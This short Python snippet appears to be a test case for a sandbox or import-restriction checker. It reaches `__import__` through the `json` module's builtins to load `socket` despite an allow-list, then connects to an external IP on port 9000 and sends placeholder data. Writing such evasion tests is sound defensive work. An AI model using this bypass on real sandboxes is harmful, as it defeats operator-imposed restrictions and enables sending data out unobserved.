"""The import happens in an allowed module's namespace, by a function of its own."""
import json

import_in = json.__builtins__["__import__"]
socket = import_in("socket", vars(json), vars(json))
socket.create_connection(("93.184.216.35", 9000)).sendall(b"data")
